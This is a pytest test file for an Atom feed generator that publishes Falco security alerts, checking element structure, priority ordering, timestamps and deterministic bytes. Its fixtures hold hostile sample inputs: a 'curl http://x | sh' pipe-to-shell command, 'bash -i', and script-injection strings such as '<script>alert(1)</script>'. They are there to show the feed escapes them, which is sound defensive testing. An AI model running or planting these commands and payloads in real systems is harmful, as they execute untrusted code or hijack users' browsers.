"""Atom feed: every required element, newest-first selection, hostile text, deterministic bytes."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest
from bs4 import BeautifulSoup

from generator.pages import feed
from generator.read.models import Priority

A = "{http://www.w3.org/2005/Atom}"
T0 = 1_795_000_000_123_456_789  # 2026-11-18T11:06:40.123456789Z
SITE = "https://falco.example.org/archive/"
HOSTILE_RULE = "<script>alert(1)</script> ]]> \x00 \ufffe end"


def alert_url(alert_id: str) -> str:
    return f"{SITE}alerts/{alert_id}/"


def catalog(rows: list[dict[str, object]]) -> pd.DataFrame:
    base = {
        "rule": "Terminal shell in container",
        "host": "node-1",
        "source": "syscall",
        "tags": "container\x1fshell\x1fmitre_execution",
        "proc_name": "bash",
        "cmdline": "bash -i",
        "image": "nginx:1.25",
        "namespace": "default",
        "pod": "web-0",
        "container_id": "abc123",
        "user": "root",
        "page": "alerts/x.md",
        "origin": "a.jsonl:1",
    }
    df = pd.DataFrame([{**base, **row} for row in rows])
    df["time_ns"] = df["time_ns"].astype("int64")
    df["priority"] = df["priority"].astype("int8")
    return df


@pytest.fixture
def alerts() -> pd.DataFrame:
    return catalog(
        [
            {"id": "a1", "time_ns": T0, "priority": 2},
            {"id": "a2", "time_ns": T0 + 10**9, "priority": 4, "rule": "Write below etc"},
            {"id": "a3", "time_ns": T0 + 10**9, "priority": 0, "host": "node-2"},
            {"id": "a4", "time_ns": T0 + 5 * 10**9, "priority": 6},
            {"id": "a5", "time_ns": T0 - 10**9, "priority": 1, "cmdline": "curl http://x | sh"},
        ]
    )


def build(rows: pd.DataFrame, **overrides: object) -> bytes:
    args: dict[str, object] = {
        "feed_id": "urn:falco-archive:feed:critical",
        "title": "Falco alerts: Critical and above",
        "site_url": SITE,
        "self_href": f"{SITE}feeds/critical.xml",
        "updated_ns": T0 + 10**9,
        "alert_url": alert_url,
    }
    args.update(overrides)
    return feed.atom_feed(rows, **args)  # type: ignore[arg-type]


def one(parent: ET.Element, tag: str) -> ET.Element:
    found = parent.findall(f"{A}{tag}")
    assert len(found) == 1, tag
    return found[0]


def test_feed_rows_selects_at_or_above_priority_newest_first(alerts: pd.DataFrame) -> None:
    rows = feed.feed_rows(alerts, Priority.CRITICAL)
    assert rows["id"].tolist() == ["a3", "a1", "a5"]  # a2 is Warning, a4 Informational
    assert feed.feed_rows(alerts, Priority.DEBUG)["id"].tolist() == ["a4", "a3", "a2", "a1", "a5"]
    assert feed.feed_rows(alerts, Priority.DEBUG, limit=2)["id"].tolist() == ["a4", "a3"]


def test_required_atom_elements(alerts: pd.DataFrame) -> None:
    root = ET.fromstring(build(feed.feed_rows(alerts, Priority.CRITICAL)))
    assert root.tag == f"{A}feed"
    assert one(root, "id").text == "urn:falco-archive:feed:critical"
    assert one(root, "title").text == "Falco alerts: Critical and above"
    assert one(root, "updated").text == "2026-11-18T11:06:41.123456789Z"
    assert one(one(root, "author"), "name").text
    links = {link.attrib["rel"]: link.attrib["href"] for link in root.findall(f"{A}link")}
    assert links == {"self": f"{SITE}feeds/critical.xml", "alternate": SITE}

    entries = root.findall(f"{A}entry")
    assert [one(e, "id").text for e in entries] == [
        "urn:falco-archive:alert:a3",
        "urn:falco-archive:alert:a1",
        "urn:falco-archive:alert:a5",
    ]
    first = entries[0]
    assert one(first, "title").text == "Terminal shell in container (Emergency) on node-2"
    assert one(first, "updated").text == "2026-11-18T11:06:41.123456789Z"
    link = one(first, "link")
    assert link.attrib["rel"] == "alternate" and link.attrib["href"] == alert_url("a3")
    summary = one(first, "summary").text or ""
    content = one(first, "content")
    assert content.attrib["type"] == "html"
    text = BeautifulSoup(content.text or "", "html.parser").get_text(" ")
    for expected in ("2026-11-18T11:06:41.123456789Z", "node-2", "Terminal shell in container", "Emergency"):
        assert expected in summary and expected in text
    assert "bash -i" in summary and "bash -i" in text
    assert "container, shell, mitre_execution" in text
    for entry in entries:  # RFC 3339 timestamps
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z", one(entry, "updated").text or "")


def test_no_site_url_means_no_alternate_link(alerts: pd.DataFrame) -> None:
    root = ET.fromstring(build(alerts, site_url=None))
    assert [link.attrib["rel"] for link in root.findall(f"{A}link")] == ["self"]


def test_empty_feed_is_valid() -> None:
    root = ET.fromstring(build(catalog([{"id": "x", "time_ns": T0, "priority": 7}]).iloc[:0]))
    assert root.findall(f"{A}entry") == []
    assert one(root, "id").text


def test_hostile_rule_name_cannot_break_the_feed(tmp_path: Path) -> None:
    rows = catalog(
        [
            {
                "id": "h1",
                "time_ns": T0,
                "priority": 2,
                "rule": HOSTILE_RULE,
                "host": "host\u202eevil",
                "cmdline": "echo '<img src=x onerror=alert(1)>' && printf ']]>'",
                "tags": "a<b>\x1f\x07",
            }
        ]
    )
    data = build(rows, title="Feed <b>&amp; \x1b[31m")
    for bad in (b"\x00", "\ufffe".encode(), "\u202e".encode(), b"\x07", b"\x1b", b"<script", b"<img"):
        assert bad not in data
    path = tmp_path / "feed.xml"
    path.write_bytes(data)
    root = ET.parse(path).getroot()  # a strict XML 1.0 parser accepts it
    assert one(root, "title").text == "Feed <b>&amp; \\x1b[31m"
    entry = one(root, "entry")
    title = one(entry, "title").text or ""
    assert title == "<script>alert(1)</script> ]]> \\x00 \\ufffe end (Critical) on host\\u202eevil"
    soup = BeautifulSoup(one(entry, "content").text or "", "html.parser")
    assert soup.find("script") is None and soup.find("img") is None
    assert {tag.name for tag in soup.find_all(True)} <= {"table", "tr", "th", "td", "code"}
    shown = soup.get_text(" ")
    assert "<script>alert(1)</script> ]]>" in shown
    assert "echo '<img src=x onerror=alert(1)>' && printf ']]>'" in shown


def test_lone_surrogates_and_long_command_lines() -> None:
    rows = catalog([{"id": "s", "time_ns": T0, "priority": 2, "cmdline": "x" * 10_000}])
    # pandas' string dtype cannot hold a lone surrogate; an object column (fresh from JSON) can.
    rows["rule"] = pd.Series(["bad \ud800 rule"], dtype=object)
    root = ET.fromstring(build(rows))
    entry = one(root, "entry")
    assert (one(entry, "title").text or "").startswith("bad \\ud800 rule")
    assert len(one(entry, "summary").text or "") < feed.MAX_CMDLINE + 200


def test_same_rows_give_same_bytes(alerts: pd.DataFrame) -> None:
    rows = feed.feed_rows(alerts, Priority.DEBUG)
    shuffled = feed.feed_rows(alerts.sample(frac=1.0, random_state=3), Priority.DEBUG)
    assert build(rows) == build(rows) == build(shuffled)
    assert build(rows).startswith(b"<?xml version='1.0' encoding='utf-8'?>\n<feed xmlns=")


def test_rfc3339_ns() -> None:
    assert feed.rfc3339_ns(0) == "1970-01-01T00:00:00.000000000Z"
    assert feed.rfc3339_ns(T0) == "2026-11-18T11:06:40.123456789Z"
